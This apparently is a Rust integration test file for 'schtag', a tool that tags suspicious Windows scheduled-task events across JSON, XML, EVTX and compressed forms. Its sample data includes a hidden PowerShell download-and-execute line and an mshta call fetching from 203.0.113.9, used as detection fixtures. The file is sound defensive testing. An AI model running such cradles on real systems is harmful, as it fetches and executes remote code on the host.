//! The same events in every form that `schtag tag` and `schtag report` read get the same verdicts.

use schtag_test_files::{gzip, zstd};
use schtag_tests::event_log::{Event, file_of_templates};
use schtag_tests::samples::{Sample, Shape, task_xml};
use schtag_tests::{command, project};
use serde_json::Value;
use std::fs;
use std::path::Path;
use std::process::{Command, Output};

/// An alert, an ordinary task, another event, an alert.
fn samples() -> [Sample; 4] {
    let named = |name: &str, sample: Sample| Sample { task_name: name.into(), ..sample };
    [
        named(r"\Updater", Sample::new(4698, "powershell.exe", "-w hidden -c iex(iwr http://203.0.113.9/a)")),
        named(r"\Clean", Sample::new(4698, r"C:\Windows\System32\cleanmgr.exe", "/autoclean")),
        Sample::new(4624, "none", ""),
        named(r"\Mail", Sample::new(4702, "mshta.exe", "http://203.0.113.9/<a>&b")),
    ]
}

/// The verdict and the severity that each must get. The last is the same in every form, too.
const EXPECTED: [(&str, &str); 4] = [("alert", "high"), ("", ""), ("", ""), ("alert", "high")];

/// The event as `<Event>`, which is in a record of Fluent Bit's.
fn event_xml(sample: &Sample) -> String {
    let record: Value = serde_json::from_str(&sample.record(Shape::WinevtlogXml)).unwrap();
    record["System"].as_str().unwrap().to_owned()
}

fn utf_16(text: &str, big: bool) -> Vec<u8> {
    let units = std::iter::once(0xfeff).chain(text.encode_utf16());
    units.flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
}

fn log() -> Vec<u8> {
    let event = |(number, sample): (usize, &Sample)| Event {
        number: number as u64,
        id: sample.event_id.into(),
        at: 1_700_000_000,
        data: vec![
            ("SubjectUserSid", sample.sid.clone()),
            ("SubjectUserName", sample.user.clone()),
            ("SubjectDomainName", sample.domain.clone()),
            ("SubjectLogonId", sample.logon_id.clone()),
            ("TaskName", sample.task_name.clone()),
            (if sample.event_id == 4702 { "TaskContentNew" } else { "TaskContent" }, sample.content.clone()),
        ],
    };
    file_of_templates(&[samples().iter().enumerate().map(event).collect()])
}

/// Each form: the name of a file, and its bytes.
fn forms() -> Vec<(&'static str, Vec<u8>)> {
    let records: Vec<String> =
        samples().iter().map(|sample| sample.record(Shape::Flat).trim_end().to_owned()).collect();
    let values: Vec<Value> = records.iter().map(|record| serde_json::from_str(record).unwrap()).collect();
    let lines = records.join("\n") + "\n";
    let pretty = |value: &Value| serde_json::to_string_pretty(value).unwrap();
    let events: Vec<String> = samples().iter().map(event_xml).collect();
    let viewer = format!(
        "<?xml version=\"1.0\" encoding=\"utf-8\" standalone=\"yes\"?>\r\n<Events>{}</Events>",
        events.join("")
    );
    vec![
        ("lines.ndjson", lines.clone().into_bytes()),
        ("utf_16.ndjson", utf_16(&lines, false)),
        ("array.json", Value::from(values.clone()).to_string().into_bytes()),
        ("pretty_array.json", utf_16(&pretty(&Value::from(values.clone())), true)),
        ("pretty.json", values.iter().map(|value| pretty(value) + "\n").collect::<String>().into_bytes()),
        ("viewer.xml", viewer.clone().into_bytes()),
        ("viewer_bom.xml", [b"\xef\xbb\xbf", viewer.as_bytes()].concat()),
        ("viewer_utf_16.xml", utf_16(&viewer, false)),
        ("wevtutil.xml", events.join("\r\n").into_bytes()),
        ("events.xml.zst", zstd(viewer.as_bytes())),
        ("lines.ndjson.gz", gzip(lines.as_bytes())),
        ("lines.ndjson.zst", zstd(lines.as_bytes())),
        ("log.evtx", log()),
        ("log.evtx.zst", zstd(&log())),
    ]
}

fn schtag(command: &Path, folder: &Path, words: &[&str]) -> Output {
    Command::new(command)
        .current_dir(folder)
        .arg(words[0])
        .arg("--module")
        .arg(project::module().unwrap())
        .args(&words[1..])
        .output()
        .unwrap()
}

/// The tags of the records in an output.
fn tags(output: &Output) -> Vec<Value> {
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap()["schtag"].take()).collect()
}

#[test]
fn the_same_events_get_the_same_verdicts_in_every_form() {
    let Some(command) = command::find("the_same_events_get_the_same_verdicts_in_every_form") else { return };
    let folder = tempfile::tempdir().unwrap();
    let mut first: Option<Vec<Value>> = None;
    for (name, bytes) in forms() {
        fs::write(folder.path().join(name), bytes).unwrap();
        let output = schtag(&command, folder.path(), &["tag", "--quiet", name]);
        assert!(output.status.success(), "{name}: {}", String::from_utf8_lossy(&output.stderr));
        let tags = tags(&output);
        let said = |tag: &Value, member: &str| tag[member].as_str().unwrap_or_default().to_owned();
        let verdicts: Vec<_> = tags.iter().map(|tag| (said(tag, "verdict"), said(tag, "severity"))).collect();
        assert_eq!(
            verdicts,
            EXPECTED.map(|(verdict, severity)| (verdict.to_owned(), severity.to_owned())),
            "{name}"
        );
        // What matched and what runs is the same, too.
        let found: Vec<Value> =
            tags.iter().map(|tag| Value::from(vec![tag["rules"].clone(), tag["task"].clone()])).collect();
        let first = first.get_or_insert_with(|| found.clone());
        assert_eq!(&found, first, "{name}");
    }
    // All of them together, in a folder, in one report.
    let output = schtag(&command, folder.path(), &["report", "--quiet", "-o", "../page.html", "."]);
    let page = fs::read_to_string(folder.path().join("../page.html")).unwrap();
    fs::remove_file(folder.path().join("../page.html")).unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let alerts = forms().len() * 2;
    assert!(page.contains(&format!("<b>{alerts}</b>alerts")), "{page:.4000}");
}

#[test]
fn the_tasks_of_a_disk_image_are_judged_as_if_just_created() {
    let Some(command) = command::find("the_tasks_of_a_disk_image_are_judged_as_if_just_created") else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let tasks = folder.path().join("image/Windows/System32/Tasks");
    fs::create_dir_all(tasks.join("Microsoft/Windows/Defrag")).unwrap();
    let bad = task_xml("powershell.exe", "-w hidden -c iex(iwr http://203.0.113.9/a)");
    let good = task_xml(r"%windir%\system32\defrag.exe", "-c -h -o");
    let declared = |xml: &str| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n{}",
            xml.split_once("?>").unwrap_or(("", xml)).1
        )
    };
    fs::write(tasks.join("Updater"), utf_16(&declared(&bad), false)).unwrap();
    fs::write(tasks.join("Microsoft/Windows/Defrag/ScheduledDefrag"), utf_16(&declared(&good), false))
        .unwrap();
    // One whose end is lost, as a carved file has it.
    let cut = bad.get(..bad.find("</Arguments>").unwrap()).unwrap();
    fs::write(tasks.join("Carved"), utf_16(&declared(cut), false)).unwrap();
    let output = schtag(&command, folder.path(), &["tag", "--quiet", "image"]);
    assert_eq!(output.status.code(), Some(3), "one is cut");
    assert!(String::from_utf8_lossy(&output.stderr).contains("Carved: record 1: an element has no end"));
    let tags = tags(&output);
    let name = |tag: &Value| tag["task"]["name"].as_str().unwrap_or_default().to_owned();
    let alerts: Vec<String> = tags.iter().filter(|tag| tag["verdict"] == "alert").map(name).collect();
    assert_eq!((tags.len(), alerts), (3, vec![r"\Carved".to_owned(), r"\Updater".to_owned()]));

    // What `schtasks /query /xml` prints: a list with the names as comments.
    let inside = |xml: &str| xml.split_once("<Task").map(|(_, rest)| format!("<Task{rest}")).unwrap();
    let listed = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Tasks>\r\n<!-- \\A\\Updater -->\r\n{}\r\n<!-- \\Defrag -->\r\n{}\r\n</Tasks>\r\n",
        inside(&bad),
        inside(&good)
    );
    fs::write(folder.path().join("listed.xml"), &listed).unwrap();
    let output = schtag(&command, folder.path(), &["tag", "--quiet", "--only-tagged", "listed.xml"]);
    assert!(output.status.success());
    let tags = self::tags(&output);
    assert_eq!((tags.len(), name(&tags[0])), (1, r"\A\Updater".to_owned()));
    assert_eq!(tags[0]["action"], "created");
}

#[test]
fn findings_are_chosen_and_shown_as_rows() {
    let Some(command) = command::find("findings_are_chosen_and_shown_as_rows") else { return };
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("log.evtx"), log()).unwrap();
    let count = |words: &[&str]| {
        let output = schtag(&command, folder.path(), &[&["tag", "--quiet"], words, &["log.evtx"]].concat());
        (tags(&output).len(), output.status.code())
    };
    assert_eq!(count(&["--min-level", "medium"]), (2, Some(0)));
    assert_eq!(count(&["--host", "WS17"]), (2, Some(0)));
    assert_eq!(count(&["--host", "ws18"]), (0, Some(0)));
    assert_eq!(count(&["--rule", "runs powershell"]), (1, Some(0)));
    // The events are of 2023-11-14.
    assert_eq!(count(&["--since", "2023-11-14"]), (2, Some(0)));
    assert_eq!(count(&["--since", "2023-11-15"]), (0, Some(0)));
    assert_eq!(count(&["--fail-on", "high"]), (4, Some(6)));
    let output = schtag(&command, folder.path(), &["tag", "--quiet", "--format", "csv", "log.evtx"]);
    let csv = String::from_utf8_lossy(&output.stdout).into_owned();
    let rows: Vec<&str> = csv.split_terminator("\r\n").collect();
    assert_eq!(rows.len(), 3, "{csv}");
    assert!(
        rows[1].starts_with(
            "2023-11-14T22:13:20Z,high,alert,ws17.corp.example,CORP\\alice,4698,created,\\Updater,"
        ),
        "{csv}"
    );
}

#[test]
#[cfg(target_os = "linux")]
fn memory_is_bounded_however_long_the_input_is() {
    let Some(command) = command::find("memory_is_bounded_however_long_the_input_is") else { return };
    let folder = tempfile::tempdir().unwrap();
    let event = event_xml(&samples()[1]);
    // 40 MB of events, which are few bytes as they are compressed.
    let events = format!("<Events>{}</Events>", event.repeat((40 << 20) / event.len()));
    let record: Value = serde_json::from_str(&samples()[2].record(Shape::Flat)).unwrap();
    let array = format!("[{}]", vec![serde_json::to_string_pretty(&record).unwrap(); 15_000].join(","));
    for (name, bytes) in
        [("events.xml.gz", gzip(events.as_bytes())), ("array.json.gz", gzip(array.as_bytes()))]
    {
        fs::write(folder.path().join(name), bytes).unwrap();
        let mut child = Command::new(&command)
            .args(["tag", "--quiet", "--only-tagged", "--module"])
            .arg(project::module().unwrap())
            .arg(folder.path().join(name))
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let mut peak = 0_u64;
        let status = loop {
            let status = fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap_or_default();
            let now = status.lines().find_map(|line| line.strip_prefix("VmHWM:")?.trim().strip_suffix(" kB"));
            peak = now.and_then(|now| now.parse().ok()).unwrap_or(peak);
            if let Some(status) = child.try_wait().unwrap() {
                break status;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        assert!(status.success(), "{name}");
        println!("{name}: {peak} kB");
        assert!((1_000..250_000).contains(&peak), "{name}: {peak} kB");
    }
}
